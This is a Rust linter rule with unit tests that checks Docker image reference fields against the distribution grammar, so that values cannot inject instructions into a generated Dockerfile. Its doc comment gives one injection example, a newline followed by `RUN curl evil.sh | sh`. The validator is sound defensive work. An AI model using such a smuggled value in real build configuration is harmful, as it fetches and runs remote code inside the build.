use crate::diagnostic::Diagnostic;
use crate::load::Value;
use crate::project::Project;

declare_rule! {
    /// ## What it does
    /// Checks `image.base` and `image.builder` are Docker image references by the grammar
    /// registries share (distribution's): `[registry[:port]/]name[:tag][@sha256:digest]`, the
    /// name lowercase path components joined by `/` (each letters and digits with single `.`,
    /// `_`, `__` or `-` runs inside), the tag starting with a letter, digit or `_`.
    ///
    /// ## Why
    /// They are written into the generated Dockerfile's `FROM` lines; anything else would
    /// break the build or inject instructions into it.
    ///
    /// ## Example
    /// ```yaml
    /// image:
    ///   base: "debian:bookworm-slim\nRUN curl evil.sh | sh"   # not an image reference
    /// ```
    pub static IMAGE_REFERENCE = ("FL0505", "image-reference", Error);
}

pub(super) fn check(project: &Project, out: &mut Vec<Diagnostic>) {
    for endpoint in &project.endpoints {
        let Some(image) = endpoint.node.get("image") else {
            continue;
        };
        for key in ["base", "builder"] {
            let Some(node) = image.get(key) else { continue };
            let Value::Str(reference) = &node.value else {
                continue;
            };
            if !is_reference(reference) {
                out.push(
                    Diagnostic::new(
                        &IMAGE_REFERENCE,
                        node.span,
                        format!("`image.{key}` is not a Docker image reference"),
                    )
                    .label("not an image reference")
                    .help("write `[registry/]name[:tag]`, for example `debian:bookworm-slim`"),
                );
            }
        }
    }
}

/// A reference by the grammar of the distribution project (`reference/regexp.go`), which
/// Docker, containerd and registries share:
///
/// ```text
/// reference  := name [":" tag] ["@" digest]
/// name       := [domain "/"] path-component ("/" path-component)*     (at most 255 characters)
/// domain     := domain-component ("." domain-component)* [":" port]  (letters, digits, inner `-`)
/// path-component := [a-z0-9]+ (separator [a-z0-9]+)*,  separator := "." | "_" | "__" | "-"+
/// tag        := [A-Za-z0-9_] [A-Za-z0-9_.-]{0,127}
/// digest     := algorithm ":" hex   (sha256: 64, sha384: 96, sha512: 128 hex digits)
/// ```
fn is_reference(reference: &str) -> bool {
    let (name, digest) = match reference.split_once('@') {
        Some((n, d)) => (n, Some(d)),
        None => (reference, None),
    };
    let digest_ok = digest.is_none_or(|d| {
        let Some((algorithm, hex)) = d.split_once(':') else {
            return false;
        };
        let length = match algorithm {
            "sha256" => 64,
            "sha384" => 96,
            "sha512" => 128,
            _ => return false,
        };
        hex.len() == length && hex.chars().all(|c| c.is_ascii_hexdigit())
    });
    // The tag follows the last `:` after the last `/` (a domain's port comes before a `/`).
    let last_slash = name.rfind('/').map_or(0, |i| i + 1);
    let (name, tag) = match name[last_slash..].rfind(':') {
        Some(i) => (&name[..last_slash + i], Some(&name[last_slash + i + 1..])),
        None => (name, None),
    };
    let tag_ok = tag.is_none_or(|t| {
        t.len() <= 128
            && t.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
            && t.chars()
                .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
    });
    let components: Vec<&str> = name.split('/').collect();
    let path_ok = |parts: &[&str]| !parts.is_empty() && parts.iter().all(|p| is_path_component(p));
    // The first component is a domain only when something follows it; either reading counts.
    let name_ok = name.len() <= 255
        && (path_ok(&components)
            || (components.len() > 1 && is_domain(components[0]) && path_ok(&components[1..])));
    name_ok && tag_ok && digest_ok
}

/// `[a-z0-9]+` joined by `.`, `_`, `__` or a run of `-`.
fn is_path_component(text: &str) -> bool {
    let bytes = text.as_bytes();
    let alnum = |b: &u8| b.is_ascii_lowercase() || b.is_ascii_digit();
    let mut i = 0;
    loop {
        let start = i;
        while i < bytes.len() && alnum(&bytes[i]) {
            i += 1;
        }
        if i == start {
            return false;
        }
        if i == bytes.len() {
            return true;
        }
        let sep = i;
        while i < bytes.len() && !alnum(&bytes[i]) {
            i += 1;
        }
        let separator = &text[sep..i];
        let known = matches!(separator, "." | "_" | "__") || separator.bytes().all(|b| b == b'-');
        if !known {
            return false;
        }
    }
}

/// `host[:port]`: dot-separated components of letters and digits with inner hyphens (an IPv4
/// address is one such name), then an optional decimal port.
fn is_domain(text: &str) -> bool {
    let (host, port) = match text.split_once(':') {
        Some((h, p)) => (h, Some(p)),
        None => (text, None),
    };
    let port_ok = port.is_none_or(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()));
    let host_ok = host.split('.').all(|label| {
        !label.is_empty()
            && !label.starts_with('-')
            && !label.ends_with('-')
            && label
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-')
    });
    host_ok && port_ok
}

#[cfg(test)]
mod tests {
    use super::is_reference;

    #[test]
    fn references_follow_the_distribution_grammar() {
        let digest = format!("sha256:{}", "a".repeat(64));
        for good in [
            "debian",
            "debian:bookworm-slim",
            "rust:1-slim-bookworm",
            "nvidia/cuda:12.4.1-runtime-ubuntu22.04",
            "library/debian:12",
            "ghcr.io/org/app:v1.2",
            "localhost:5000/team/app:latest",
            "localhost/app",
            "registry.example.com:443/a/b-c_d.e:V1_x",
            "Registry.Example.com/app",
            "a__b/c--d/e.f:_tag",
            "127.0.0.1:5000/app",
            &format!("debian@{digest}"),
            &format!("ghcr.io/org/app:v1@{digest}"),
        ] {
            assert!(is_reference(good), "{good} is a reference");
        }
        for bad in [
            "",
            "debian:--platform",
            "debian:-v",
            "a:b:c",
            "a//b",
            "a/../b",
            "a/./b",
            "/a",
            "a/",
            "a:",
            "Debian",
            "team/App",
            "a_/b",
            "a..b",
            "a___b",
            "-a",
            ".a/b",
            "a:b/c",
            "registry:port/app",
            "-registry.io/app",
            "registry-.io/app",
            "debian bookworm",
            "debian:bookworm\nRUN x",
            "debian@sha256:abc",
            "debian@md5:0123456789abcdef0123456789abcdef",
            &format!("debian:{}", "t".repeat(129)),
            &format!("{}/app", "a".repeat(256)),
        ] {
            assert!(!is_reference(bad), "{bad:?} is not a reference");
        }
    }
}
